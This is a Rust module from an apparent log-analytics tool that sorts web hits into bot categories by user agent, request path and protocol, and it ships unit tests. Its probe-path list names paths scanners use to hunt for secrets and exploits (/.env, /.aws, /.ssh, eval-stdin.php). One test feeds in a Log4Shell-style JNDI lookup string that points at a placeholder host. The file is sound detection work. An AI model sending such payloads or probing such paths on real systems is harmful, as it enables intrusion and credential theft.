//! Bot detection, layers 1 and 2 (DESIGN.md, Bots): verdicts from the user agent, decided once per
//! distinct agent, and from the shape of a request. Layer 4 (behaviour per day) is in
//! `rollup::behaviour`; every verdict carries a [`Reason`].

use std::sync::OnceLock;

use super::browser_age::{self, Age, Month};

/// Why a hit counts as automated. Stored as a small integer in `events.bot` and `daily_bots`.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Hash, PartialOrd, Ord)]
#[repr(u8)]
pub enum Reason {
    /// Layer 1: a search engine crawler.
    SearchCrawler = 1,
    /// Layer 1: an AI crawler or assistant fetcher (GPTBot, ClaudeBot, PerplexityBot, Bytespider...).
    AiCrawler = 2,
    /// Layer 1: a link preview (Slack, Discord, Twitter, Facebook...).
    SocialPreview = 3,
    /// Layer 1: an SEO tool crawler.
    SeoCrawler = 4,
    /// Layer 1: a feed reader.
    FeedReader = 5,
    /// Layer 1: an uptime monitor.
    Monitor = 6,
    /// Layer 1: a headless or automated browser.
    Headless = 7,
    /// Layer 1: an HTTP client library or scanner tool (curl, python-requests, zgrab...).
    HttpClient = 8,
    /// Layer 1: generic bot words in the agent (`crawler`, `spider`, `bot/`...).
    GenericBot = 9,
    /// Layer 1: no user agent at all.
    EmptyAgent = 10,
    /// Layer 1: an agent no browser sends (no product/version, too short).
    MalformedAgent = 11,
    /// Layer 1: a browser version dead for years on the day of the hit (Chrome or Firefox four
    /// years old, Safari or iOS five, Internet Explorer after its retirement).
    OldBrowser = 12,
    /// Layer 1: a browser version released after the day of the hit, or one that never existed
    /// (`Windows NT 11.0`, Safari 20).
    FutureBrowser = 13,
    /// Layer 1, decided again in rollup: a browser that does not update itself (IE, Safari, old
    /// Opera) years out of date; a person's after all if it loads what its pages need.
    ObsoleteBrowser = 14,
    /// Layer 1, per request: a browser older than HTTP/2 (IE 10, Chrome 40, Firefox 35, Presto
    /// Opera, Android's stock browser) on a request made over HTTP/2 or HTTP/3.
    NoHttp2 = 15,
    /// Layer 2: a vulnerability probe (`/wp-login.php`, `/.env`, `/.git/`...).
    ProbePath = 20,
    /// Layer 2: fetched `robots.txt` (the client is a bot for that day).
    RobotsTxt = 21,
    /// Layer 2: a request line that is not HTTP (TLS handshakes, binary junk).
    GarbageRequest = 22,
    /// Layer 2: a referrer on the referrer-spam list (shipped, plus the user's own).
    ReferrerSpam = 23,
    /// Layer 3: too many requests per minute in `tail`'s live window.
    LiveRate = 30,
    /// Layer 4: more than N hits on one path in a day.
    RepeatedPath = 40,
    /// Layer 4: more than N page views in a day.
    ManyPageViews = 41,
    /// Layer 4: at least N requests in a day, most of them 4xx.
    MostlyErrors = 42,
    /// Layer 4: an agent whose many visitors almost only fetch `/` without referrer (monitors).
    MonitorPattern = 43,
    /// Layer 4: pages known to load subresources (stylesheet, script, image, API call) viewed
    /// without any, page after page with no referrer, faster than anyone reads, or with a made-up
    /// referrer.
    NoSubresources = 44,
    /// Layer 4: one address or /24 network sending many browser agents in a day.
    AgentRotation = 45,
    /// Layer 4: one browser agent spread over many addresses with one or two hits each.
    AgentSpread = 46,
    /// Layer 4: one path fetched at regular intervals all day.
    RegularInterval = 47,
    /// Layer 4: page views from a datacenter network with no subresource, or pages rendered there
    /// in seconds with no referrer or with an out-of-date browser (a headless renderer).
    Datacenter = 48,
    /// Layer 4: HTTP/1.0 from a browser agent that loads no subresources.
    Http10 = 49,
    /// Layer 4: no subresources, and a browser well behind the versions people run that day.
    StaleBrowser = 50,
    /// Layer 4: HTTP/1.x from a browser agent on a site whose browsers all speak HTTP/2 or 3, with
    /// no subresources or with an out-of-date browser.
    LegacyProtocol = 51,
    /// Layer 4: text (a page, a stylesheet, a script) taken at its uncompressed size, 2.5 times or
    /// more what most clients get for it: a client that does not ask for compression, as every
    /// browser does, however fully it renders.
    Uncompressed = 52,
    /// Layer 4: a day of one request, the site's home page, with no referrer and none of the
    /// subresources it loads: what monitors, scanners and scrapers send (on the labelled logs,
    /// 3,003 such client-days were bots' and 13 people's).
    LoneRoot = 53,
    /// Layer 2, per request: a page with a platform's click id (`fbclid`, `gclid`...) fetched from
    /// a datacenter network: the platform's link scanner (Meta's, AdsBot) renders the link it
    /// sends from its own network; the person who clicks it comes from theirs.
    ClickScanner = 24,
}

impl Reason {
    /// All reasons, in code order.
    pub const ALL: [Reason; 35] = [
        Reason::SearchCrawler,
        Reason::AiCrawler,
        Reason::SocialPreview,
        Reason::SeoCrawler,
        Reason::FeedReader,
        Reason::Monitor,
        Reason::Headless,
        Reason::HttpClient,
        Reason::GenericBot,
        Reason::EmptyAgent,
        Reason::MalformedAgent,
        Reason::OldBrowser,
        Reason::FutureBrowser,
        Reason::ObsoleteBrowser,
        Reason::NoHttp2,
        Reason::ProbePath,
        Reason::RobotsTxt,
        Reason::GarbageRequest,
        Reason::ReferrerSpam,
        Reason::ClickScanner,
        Reason::LiveRate,
        Reason::RepeatedPath,
        Reason::ManyPageViews,
        Reason::MostlyErrors,
        Reason::MonitorPattern,
        Reason::NoSubresources,
        Reason::AgentRotation,
        Reason::AgentSpread,
        Reason::RegularInterval,
        Reason::Datacenter,
        Reason::Http10,
        Reason::StaleBrowser,
        Reason::LegacyProtocol,
        Reason::Uncompressed,
        Reason::LoneRoot,
    ];

    /// The reason for a stored code.
    pub fn from_code(code: u8) -> Option<Reason> {
        Reason::ALL.iter().copied().find(|r| *r as u8 == code)
    }

    /// Stable name, for reports and JSON.
    pub fn name(self) -> &'static str {
        match self {
            Reason::SearchCrawler => "ua-search",
            Reason::AiCrawler => "ua-ai",
            Reason::SocialPreview => "ua-social",
            Reason::SeoCrawler => "ua-seo",
            Reason::FeedReader => "ua-feed",
            Reason::Monitor => "ua-monitor",
            Reason::Headless => "ua-headless",
            Reason::HttpClient => "ua-client",
            Reason::GenericBot => "ua-generic",
            Reason::EmptyAgent => "ua-empty",
            Reason::MalformedAgent => "ua-malformed",
            Reason::OldBrowser => "ua-old-browser",
            Reason::FutureBrowser => "ua-future",
            Reason::ObsoleteBrowser => "ua-obsolete",
            Reason::NoHttp2 => "ua-no-http2",
            Reason::ProbePath => "probe-path",
            Reason::RobotsTxt => "robots-txt",
            Reason::GarbageRequest => "garbage-request",
            Reason::ReferrerSpam => "referrer-spam",
            Reason::LiveRate => "live-rate",
            Reason::RepeatedPath => "repeated-path",
            Reason::ManyPageViews => "many-pageviews",
            Reason::MostlyErrors => "mostly-errors",
            Reason::MonitorPattern => "monitor-pattern",
            Reason::NoSubresources => "no-subresources",
            Reason::AgentRotation => "agent-rotation",
            Reason::AgentSpread => "agent-spread",
            Reason::RegularInterval => "regular-interval",
            Reason::Datacenter => "datacenter",
            Reason::Http10 => "http10",
            Reason::StaleBrowser => "stale-browser",
            Reason::LegacyProtocol => "legacy-protocol",
            Reason::Uncompressed => "uncompressed",
            Reason::LoneRoot => "lone-root",
            Reason::ClickScanner => "click-scanner",
        }
    }

    /// What the reason means, for `check --bots`, `stats bots` and the docs.
    pub fn describe(self) -> &'static str {
        match self {
            Reason::SearchCrawler => "search engine crawler, by its user agent",
            Reason::AiCrawler => "AI crawler or assistant fetcher, by its user agent",
            Reason::SocialPreview => "link preview of a chat or social network",
            Reason::SeoCrawler => "SEO tool crawler",
            Reason::FeedReader => "feed reader",
            Reason::Monitor => "uptime or health monitor",
            Reason::Headless => "headless or automated browser (Lighthouse, Puppeteer...)",
            Reason::HttpClient => "HTTP library or scanner tool (curl, python-requests, zgrab...)",
            Reason::GenericBot => "bot words in the agent (bot, crawler, spider...)",
            Reason::EmptyAgent => "no user agent in a log that records one",
            Reason::MalformedAgent => "an agent no browser sends",
            Reason::OldBrowser => {
                "self-updating browser (Chrome, Firefox) years out of date on the day of the hit"
            }
            Reason::ObsoleteBrowser => {
                "IE, Safari or old Opera years out of date, loading no subresources"
            }
            Reason::FutureBrowser => {
                "browser version newer than the day of the hit, or one that never existed"
            }
            Reason::NoHttp2 => {
                "browser older than HTTP/2 (IE 10, Chrome 40, Presto Opera...) on a request over HTTP/2 or 3"
            }
            Reason::ProbePath => {
                "probed for a vulnerable path (/.env, /wp-login.php...): the whole day"
            }
            Reason::RobotsTxt => "fetched robots.txt: the whole day",
            Reason::GarbageRequest => "request line that is not HTTP",
            Reason::ReferrerSpam => "referrer on the referrer-spam list",
            Reason::LiveRate => "too many requests a minute (tail)",
            Reason::RepeatedPath => "same path too often in a day, without loading subresources",
            Reason::ManyPageViews => "too many page views in a day, without loading subresources",
            Reason::MostlyErrors => "mostly 4xx answers, loading no subresources",
            Reason::MonitorPattern => "agent of many clients fetching only / without referrer",
            Reason::NoSubresources => {
                "pages never followed by their subresources, with another sign of a script"
            }
            Reason::AgentRotation => "one address or /24 sending many browser agents in a day",
            Reason::AgentSpread => "one browser agent spread thin over many addresses",
            Reason::RegularInterval => "one path fetched at regular intervals",
            Reason::Datacenter => {
                "pages from a datacenter network without subresources, or rendered there like a headless browser"
            }
            Reason::Http10 => "HTTP/1.0 from a browser agent that loads no subresources",
            Reason::StaleBrowser => {
                "no subresources, and a browser a year (Safari: 3 years) behind the day's"
            }
            Reason::LegacyProtocol => {
                "HTTP/1.x on a site whose browsers speak HTTP/2 or 3, with no subresources or an out-of-date browser"
            }
            Reason::Uncompressed => {
                "pages, stylesheets or scripts taken uncompressed, 2.5 times what browsers get: no Accept-Encoding"
            }
            Reason::LoneRoot => {
                "one request all day, the home page, without referrer or the subresources it loads"
            }
            Reason::ClickScanner => {
                "a page with a platform's click id (fbclid, gclid...) fetched from a datacenter: its link scanner"
            }
        }
    }
}

/// Whether a stored reason code is a layer-4 verdict, which rollup decides again each time it
/// recomputes the day.
pub fn is_behaviour(code: u8) -> bool {
    code >= Reason::RepeatedPath as u8
}

/// Patterns shipped with logtally (`bot-agents.txt`).
const BUILTIN: &str = include_str!("bot-agents.txt");

/// A user-agent pattern list: lowercase substrings with the reason they give.
#[derive(Clone, Debug)]
pub struct AgentPatterns {
    patterns: Vec<(String, Reason)>,
}

/// A pattern file line that is not `category<TAB>substring`.
#[derive(Debug, thiserror::Error)]
#[error("line {line}: {message} (expected `category<TAB>substring`, categories: search, ai, social, seo, feed, monitor, headless, client, generic)")]
pub struct PatternError {
    /// 1-based line number.
    pub line: usize,
    /// What is wrong.
    pub message: String,
}

fn category(name: &str) -> Option<Reason> {
    Some(match name {
        "search" => Reason::SearchCrawler,
        "ai" => Reason::AiCrawler,
        "social" => Reason::SocialPreview,
        "seo" => Reason::SeoCrawler,
        "feed" => Reason::FeedReader,
        "monitor" => Reason::Monitor,
        "headless" => Reason::Headless,
        "client" => Reason::HttpClient,
        "generic" => Reason::GenericBot,
        _ => return None,
    })
}

impl AgentPatterns {
    /// Parses a pattern file.
    pub fn parse(text: &str) -> Result<AgentPatterns, PatternError> {
        let mut patterns = Vec::new();
        for (i, line) in text.lines().enumerate() {
            let line = line.trim_end();
            if line.is_empty() || line.starts_with('#') {
                continue;
            }
            let (cat, pat) = line.split_once('\t').ok_or_else(|| PatternError {
                line: i + 1,
                message: "no tab".into(),
            })?;
            let reason = category(cat.trim()).ok_or_else(|| PatternError {
                line: i + 1,
                message: format!("unknown category {cat:?}"),
            })?;
            if pat.is_empty() {
                return Err(PatternError {
                    line: i + 1,
                    message: "empty pattern".into(),
                });
            }
            patterns.push((pat.to_ascii_lowercase(), reason));
        }
        // Specific categories before generic words, whatever the file order.
        patterns.sort_by_key(|(_, r)| *r == Reason::GenericBot);
        Ok(AgentPatterns { patterns })
    }

    /// The built-in list.
    pub fn builtin() -> &'static AgentPatterns {
        static BUILT: OnceLock<AgentPatterns> = OnceLock::new();
        BUILT.get_or_init(|| AgentPatterns::parse(BUILTIN).expect("the built-in list is valid"))
    }

    /// The built-in list extended with another file's patterns (checked first).
    pub fn with_extra(extra: &str) -> Result<AgentPatterns, PatternError> {
        let mut more = AgentPatterns::parse(extra)?;
        more.patterns
            .extend(AgentPatterns::builtin().patterns.iter().cloned());
        more.patterns.sort_by_key(|(_, r)| *r == Reason::GenericBot);
        Ok(more)
    }

    /// Layer 1: the verdict for a user agent seen in `month` (`browser_age::month_of_day` of the
    /// hit's day; `None`: looks like a person's browser then).
    pub fn verdict(&self, agent: &str, month: Month) -> Option<Reason> {
        let trimmed = agent.trim();
        if trimmed.is_empty() || trimmed == "-" {
            return Some(Reason::EmptyAgent);
        }
        let lower = trimmed.to_ascii_lowercase();
        if let Some((_, r)) = self
            .patterns
            .iter()
            .find(|(p, _)| lower.contains(p.as_str()))
        {
            return Some(*r);
        }
        if lower.len() < 10
            || !(lower.contains('/') || lower.contains('('))
            || !lower.starts_with(|c: char| c.is_ascii_alphanumeric())
            || lower.contains("${")
            || lower.contains('<')
            || BARE_AGENTS.contains(&lower.as_str())
        {
            return Some(Reason::MalformedAgent);
        }
        match browser_age::judge(&lower, month) {
            Age::Old => Some(Reason::OldBrowser),
            Age::Obsolete => Some(Reason::ObsoleteBrowser),
            Age::Future => Some(Reason::FutureBrowser),
            Age::Plausible => None,
        }
    }

    /// The name of the automated client an agent declares (`GPTBot`, `Googlebot`, `curl`), as
    /// written in the agent, for `stats bots`; `None` when no pattern matches.
    pub fn crawler_name(&self, agent: &str) -> Option<String> {
        let lower = agent.to_ascii_lowercase();
        let (pattern, _) = self
            .patterns
            .iter()
            .find(|(p, _)| lower.contains(p.as_str()))?;
        let at = lower.find(pattern.as_str())?;
        // Widen the match to the product token around it (ASCII letters, digits, `-_.`), without
        // its version. `lower` has the same bytes as `agent` but for ASCII case, and the widened
        // ends stop at an ASCII byte or before a non-ASCII one: always character boundaries.
        let bytes = agent.as_bytes();
        let word = |c: u8| c.is_ascii_alphanumeric() || matches!(c, b'-' | b'_' | b'.');
        let mut start = at;
        while start > 0 && word(bytes[start - 1]) {
            start -= 1;
        }
        let mut end = at + pattern.len();
        while end < bytes.len() && word(bytes[end]) {
            end += 1;
        }
        let token = &agent[start..end];
        let name = token
            .split('/')
            .next()
            .unwrap_or(token)
            .trim_matches(|c: char| matches!(c, ' ' | '-' | '_' | '.'));
        (!name.is_empty()).then(|| name.chars().take(40).collect())
    }
}

/// Agents that are only a browser's prefix, sent by scripts (`Mozilla/5.0 (compatible)`).
const BARE_AGENTS: &[&str] = &[
    "mozilla/5.0",
    "mozilla/4.0",
    "mozilla/5.0 (compatible)",
    "mozilla/5.0 (compatible;)",
    "mozilla/4.0 (compatible;)",
    "mozilla/4.0 (compatible)",
];

/// Paths a WordPress site serves to its owner and readers (its login, admin, stylesheets and
/// scripts), which scanners also probe on every other site: a probe only where they are missing.
const WORDPRESS_PREFIXES: &[&str] = &[
    "/wp-login.php",
    "/wp-admin",
    "/xmlrpc.php",
    "/wp-content/",
    "/wp-includes/",
];

/// Layer 2: paths only vulnerability scanners ask for on most sites; WordPress's own paths only
/// when the site answers them with an error (`failed`: a 4xx status), so the owner of a WordPress
/// site and its readers' stylesheets are never probes.
pub fn is_probe_path(path: &str, failed: bool) -> bool {
    const PREFIXES: &[&str] = &[
        "/wp-config",
        "/.env",
        "/.git",
        "/.svn",
        "/.hg",
        "/.aws",
        "/.ssh",
        "/.ds_store",
        "/.vscode",
        "/.idea",
        "/phpmyadmin",
        "/pma/",
        "/myadmin",
        "/admin.php",
        "/cgi-bin/",
        "/vendor/phpunit",
        "/owa/",
        "/actuator",
        "/server-status",
        "/boaform",
        "/hnap1",
        "/shell",
        "/cmd.php",
        "/eval-stdin.php",
        "/config.php",
        "/setup.cgi",
        "/solr/",
        "/autodiscover/",
        "/ecp/",
        "/webui/",
        "/geoserver/",
        "/.well-known/acme-challenge/../",
    ];
    const SUFFIXES: &[&str] = &[
        ".bak", ".sql", ".old", ".swp", ".save", ".orig", "~", ".tar.gz", ".zip", ".7z", ".rar",
    ];
    let p = path.to_ascii_lowercase();
    (failed && WORDPRESS_PREFIXES.iter().any(|x| p.starts_with(x)))
        || PREFIXES.iter().any(|x| p.starts_with(x))
        || (p.matches('/').count() == 1 && SUFFIXES.iter().any(|x| p.ends_with(x)))
}

/// Layer 1 for an agent seen in `month` (`None`: the request had no user agent; `logged`:
/// whether the log format records agents at all); 0 for a person's browser.
pub fn agent_verdict(
    patterns: &AgentPatterns,
    agent: Option<&str>,
    month: Month,
    logged: bool,
) -> u8 {
    match agent {
        None if logged => Reason::EmptyAgent as u8,
        None => 0,
        Some(a) => patterns.verdict(a, month).map_or(0, |r| r as u8),
    }
}

/// The order of layers 1 and 2: the agent's verdict, else a garbage request line, else the path's
/// (computed only when needed), else referrer spam; 0 for a person. An obsolete browser's verdict
/// (which rollup may overturn) gives way to a probe, `robots.txt` or spam, which it may not.
pub fn combine(by_agent: u8, has_method: bool, by_path: impl FnOnce() -> u8, spam: bool) -> u8 {
    if by_agent != 0 && by_agent != Reason::ObsoleteBrowser as u8 {
        by_agent
    } else if !has_method {
        Reason::GarbageRequest as u8
    } else {
        match by_path() {
            0 if spam => Reason::ReferrerSpam as u8,
            0 => by_agent,
            v => v,
        }
    }
}

/// What one request says of its client beyond its agent and path.
#[derive(Clone, Copy, Debug, Default)]
pub struct Request<'a> {
    /// The protocol of its request line (`HTTP/2.0`...).
    pub protocol: Option<&'a [u8]>,
    /// Its agent names a browser older than HTTP/2 (`classify::browser_age::predates_http2`).
    pub agent_predates_http2: bool,
    /// It is a page whose query carries a platform's click id (`classify::path::has_click_id`).
    pub page_with_click_id: bool,
    /// Its address is in a datacenter network.
    pub datacenter: bool,
}

/// The verdict of one request at ingest, the same for `import`, `tail` and `check --bots`: layers
/// 1 and 2 of its agent and path (`so_far`, from [`combine`]), then what the request itself gives
/// away (its protocol, a click id from a datacenter).
pub fn request_verdict(so_far: u8, r: &Request<'_>) -> u8 {
    let so_far = protocol_verdict(so_far, r.agent_predates_http2, r.protocol);
    click_scanner_verdict(so_far, r.page_with_click_id, r.datacenter)
}

/// Layer 1 for one request: [`Reason::NoHttp2`] when an agent that `predates_http2`
/// (`classify::browser_age::predates_http2`) made it over HTTP/2 or HTTP/3, else the verdict
/// `so_far` of layers 1 and 2 (which this overrides only where rollup could still clear it: a
/// person's, or an obsolete browser's).
fn protocol_verdict(so_far: u8, predates_http2: bool, protocol: Option<&[u8]>) -> u8 {
    let h2 = matches!(
        protocol,
        Some(b"HTTP/2.0" | b"HTTP/2" | b"HTTP/3.0" | b"HTTP/3")
    );
    if predates_http2 && h2 && (so_far == 0 || so_far == Reason::ObsoleteBrowser as u8) {
        Reason::NoHttp2 as u8
    } else {
        so_far
    }
}

/// Layer 2 for one request: [`Reason::ClickScanner`] for a page with a click id
/// (`classify::path::has_click_id`) from a datacenter address, else `so_far` (which it overrides
/// only where rollup could still clear it).
fn click_scanner_verdict(so_far: u8, page_with_click_id: bool, datacenter: bool) -> u8 {
    if page_with_click_id && datacenter && (so_far == 0 || so_far == Reason::ObsoleteBrowser as u8)
    {
        Reason::ClickScanner as u8
    } else {
        so_far
    }
}

/// Layer 2 for a path and whether it was answered with a 4xx status.
pub fn path_verdict(path: Option<&str>, failed: bool) -> u8 {
    match path {
        Some(p) if is_probe_path(p, failed) => Reason::ProbePath as u8,
        Some(p) if is_robots_txt(p) => Reason::RobotsTxt as u8,
        _ => 0,
    }
}

/// Layer 2: `robots.txt` fetchers are bots for the day.
pub fn is_robots_txt(path: &str) -> bool {
    path.eq_ignore_ascii_case("/robots.txt")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::genlog::{
        BROWSER_AGENTS, CRAWLER_AGENTS, FEED_AGENTS, HEADLESS_AGENTS, MONITOR_AGENTS,
        SCANNER_AGENTS,
    };

    /// November 2026.
    const NOW: Month = 2026 * 12 + 10;

    fn v(ua: &str) -> Option<Reason> {
        AgentPatterns::builtin().verdict(ua, NOW)
    }

    #[test]
    fn current_browsers_are_people() {
        for ua in BROWSER_AGENTS {
            assert_eq!(v(ua), None, "{ua}");
        }
    }

    #[test]
    fn crawlers_monitors_feeds_and_clients_are_bots() {
        for ua in CRAWLER_AGENTS
            .iter()
            .chain(MONITOR_AGENTS)
            .chain(FEED_AGENTS)
        {
            assert!(v(ua).is_some(), "{ua}");
        }
        assert_eq!(v(HEADLESS_AGENTS[0]), Some(Reason::Headless));
        assert_eq!(v("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)"), Some(Reason::AiCrawler));
        assert_eq!(
            v("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
            Some(Reason::SearchCrawler)
        );
        for ua in SCANNER_AGENTS
            .iter()
            .filter(|u| !u.starts_with("Mozilla/5.0 (Windows"))
        {
            assert!(v(ua).is_some(), "{ua:?}");
        }
    }

    #[test]
    fn empty_malformed_and_dead_browsers() {
        assert_eq!(v(""), Some(Reason::EmptyAgent));
        assert_eq!(v("-"), Some(Reason::EmptyAgent));
        assert_eq!(v("XTC"), Some(Reason::MalformedAgent));
        assert_eq!(
            v("Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"),
            Some(Reason::ObsoleteBrowser)
        );
        assert_eq!(v("Mozilla/5.0 (Windows NT 6.1) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.36"), Some(Reason::OldBrowser));
        assert_eq!(v("Mozilla/5.0 (Windows NT 10.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36"), None, "two years old is fine");
        assert_eq!(
            v("Mozilla/5.0 (Windows NT 10.0; rv:59.0) Gecko/20100101 Firefox/59.0"),
            Some(Reason::OldBrowser)
        );
        assert_eq!(
            v("Mozilla/5.0 (Windows NT 10.0; rv:140.0) Gecko/20100101 Firefox/140.0"),
            None
        );
        assert_eq!(v("Mozilla/5.0 (compatible)"), Some(Reason::MalformedAgent));
        assert_eq!(
            v("${jndi:ldap://192.0.2.1:1389/a}"),
            Some(Reason::MalformedAgent)
        );
        assert_eq!(v("<title>(.*?)</title>"), Some(Reason::MalformedAgent));
        assert_eq!(
            v("Mozilla/5.0 (Windows NT 11.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/134.0.0.0 Safari/537.36"),
            Some(Reason::FutureBrowser)
        );
        assert_eq!(v("Mozilla/5.0 (Linux; Android 12; CUBOT X30) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36"), None, "a phone named Cubot is no bot");
    }

    #[test]
    fn tools_missed_before_are_named() {
        for ua in [
            "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
            "WordPress/6.0.2; https://example.org",
            "Mozilla/5.0 (compatible; GoogleOther)",
            "Mozilla/5.0 (compatible; NetcraftSurveyAgent/1.0; +info@netcraft.com)",
            "Mozilla/5.0 (compatible; Odin; https://docs.getodin.com/)",
            "FeedBurner/1.0 (http://www.FeedBurner.com)",
            "Mozilla/5.0 (compatible; VoilaBot BETA 1.2; support.voilabot@orange-ftgroup.com)",
            "Baidu-YunGuanCe-SLABot(ce.baidu.com)",
            "portscout/0.8.1",
        ] {
            assert!(v(ua).is_some(), "{ua}");
        }
        assert_eq!(
            v("Mozilla/5.0 (Linux; Android 14; SM-S918B; KAKAOTALK 10.4.3) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Mobile Safari/537.36"),
            None,
            "in-app browsers are people"
        );
    }

    #[test]
    fn crawlers_are_named_as_their_agents_write_them() {
        let p = AgentPatterns::builtin();
        let name = |ua: &str| p.crawler_name(ua);
        assert_eq!(name("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)").as_deref(), Some("GPTBot"));
        assert_eq!(
            name("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
                .as_deref(),
            Some("Googlebot")
        );
        assert_eq!(name("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)").as_deref(), Some("ClaudeBot"));
        assert_eq!(name("curl/8.5.0").as_deref(), Some("curl"));
        assert_eq!(
            name("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)").as_deref(),
            Some("AhrefsBot")
        );
        assert_eq!(
            name("facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)")
                .as_deref(),
            Some("facebookexternalhit")
        );
        assert_eq!(name("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36"), None);
        assert_eq!(
            name("Screaming Frog SEO Spider/19.0").as_deref(),
            Some("Screaming Frog")
        );
        // Non-ASCII next to a pattern: cut at characters, never inside one.
        assert_eq!(name("Xébot/1.0").as_deref(), Some("bot"));
        assert_eq!(name("\u{fffd}curl/7").as_deref(), Some("curl"));
        assert_eq!(name("ñ-spider").as_deref(), Some("spider"));
    }

    #[test]
    fn extra_patterns_come_first_and_bad_lines_are_named() {
        let p = AgentPatterns::with_extra("monitor\tmy-company-checker\n").unwrap();
        assert_eq!(
            p.verdict("my-company-checker/1.0 (internal)", NOW),
            Some(Reason::Monitor)
        );
        let err = AgentPatterns::with_extra("# ok\nmonitor no-tab-here\n").unwrap_err();
        assert_eq!(err.line, 2);
        assert!(AgentPatterns::with_extra("robots\tx\n")
            .unwrap_err()
            .to_string()
            .contains("unknown category"));
    }

    #[test]
    fn probe_paths() {
        for p in [
            "/wp-login.php",
            "/.env",
            "/.git/config",
            "/xmlrpc.php",
            "/backup.zip",
            "/db.sql",
            "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        ] {
            assert!(is_probe_path(p, true), "{p}");
        }
        for p in ["/.env", "/.git/config", "/backup.zip"] {
            assert!(
                is_probe_path(p, false),
                "{p} is a probe whatever the answer"
            );
        }
        for p in [
            "/wp-login.php",
            "/wp-admin/edit.php",
            "/wp-includes/js/jquery/jquery.min.js",
            "/wp-content/plugins/akismet/style.css",
            "/xmlrpc.php",
        ] {
            assert!(!is_probe_path(p, false), "{p} served by a WordPress site");
        }
        for p in [
            "/",
            "/blog/post",
            "/downloads/app.zip",
            "/static/app.js",
            "/wp",
        ] {
            assert!(!is_probe_path(p, true), "{p}");
        }
        assert!(is_robots_txt("/robots.txt"));
    }

    #[test]
    fn an_obsolete_browser_gives_way_to_what_it_asked_for() {
        let obsolete = Reason::ObsoleteBrowser as u8;
        let probe = || Reason::ProbePath as u8;
        assert_eq!(combine(obsolete, true, probe, false), probe());
        assert_eq!(
            combine(obsolete, true, || 0, true),
            Reason::ReferrerSpam as u8
        );
        assert_eq!(combine(obsolete, true, || 0, false), obsolete);
        let search = Reason::SearchCrawler as u8;
        assert_eq!(
            combine(search, true, probe, true),
            search,
            "a named crawler stays one"
        );
    }

    proptest::proptest! {
        #[test]
        fn naming_a_crawler_never_panics(agent in "\\PC{0,40}(bot|curl/|spider)\\PC{0,40}") {
            let _ = AgentPatterns::builtin().crawler_name(&agent);
        }
    }

    #[test]
    fn codes_round_trip() {
        for r in Reason::ALL {
            assert_eq!(Reason::from_code(r as u8), Some(r));
        }
        assert_eq!(Reason::from_code(0), None);
    }
}
